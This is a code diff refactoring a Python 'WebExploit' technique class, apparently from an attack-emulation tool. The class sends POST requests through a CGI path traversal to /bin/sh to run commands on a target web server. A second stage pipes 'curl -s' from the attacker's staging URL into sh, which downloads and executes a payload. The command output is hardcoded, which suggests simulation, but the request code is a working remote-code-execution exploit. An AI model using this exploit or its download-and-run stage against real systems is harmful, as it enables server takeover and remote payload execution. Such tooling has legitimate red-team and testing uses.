@@ -37,23 +37,21 @@ class WebExploit(Technique):
         host = ctx.target.hostname or ctx.target.ip
         shell = "/cgi-bin/" + ".%2e/" * params.depth + "bin/sh"
         stage_url = f"http://{ctx.attacker.ip}{params.stage_path}"
+
+        def run_in_shell(script: str) -> bytes:
+            """The exploit request: ``script`` posted to /bin/sh through the traversal."""
+            return http_request(
+                "POST",
+                shell,
+                host,
+                headers=[("Content-Type", "application/x-www-form-urlencoded")],
+                body=script.encode(),
+                user_agent=params.user_agent,
+            )
+
         probe = http_request("GET", "/", host, user_agent=params.user_agent)
-        first = http_request(
-            "POST",
-            shell,
-            host,
-            headers=[("Content-Type", "application/x-www-form-urlencoded")],
-            body=f"echo Content-Type: text/plain; echo; {params.command}".encode(),
-            user_agent=params.user_agent,
-        )
-        second = http_request(
-            "POST",
-            shell,
-            host,
-            headers=[("Content-Type", "application/x-www-form-urlencoded")],
-            body=f"echo; curl -s {stage_url} | sh".encode(),
-            user_agent=params.user_agent,
-        )
+        first = run_in_shell(f"echo Content-Type: text/plain; echo; {params.command}")
+        second = run_in_shell(f"echo; curl -s {stage_url} | sh")
         output = (
             b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\nLinux portal 6.1.0-18-amd64\n"
         )
